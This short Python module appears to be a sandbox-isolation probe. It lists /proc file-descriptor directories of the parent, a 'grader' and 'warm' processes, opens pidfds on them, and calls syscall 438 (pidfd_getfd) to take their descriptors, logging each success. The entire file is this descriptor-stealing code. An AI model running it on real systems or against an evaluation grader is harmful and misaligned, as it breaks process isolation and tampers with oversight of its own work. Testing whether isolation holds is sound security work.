"""Fetches descriptors out of the grader and the warm process."""
# Succeeds where open: memory of others

import os

from attacker import PLACES, attempt, loot, system_call

for pid in (os.getppid(), PLACES["grader"], *PLACES["warm"]):
    loot(attempt(os.listdir, f"/proc/{pid}/fd"))
    handle = attempt(os.pidfd_open, pid)
    if handle is not None:
        for descriptor in range(10):
            system_call(438, handle, descriptor, 0, what="took a descriptor of another process")
